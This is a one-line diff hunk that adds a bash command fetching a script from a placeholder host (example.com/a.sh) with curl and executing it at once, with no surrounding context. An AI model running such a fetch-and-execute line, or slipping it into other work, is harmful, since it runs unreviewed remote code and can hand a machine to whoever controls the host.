@@ -1,0 +1,1 @@
+bash <<< "$(curl -s http://example.com/a.sh)"
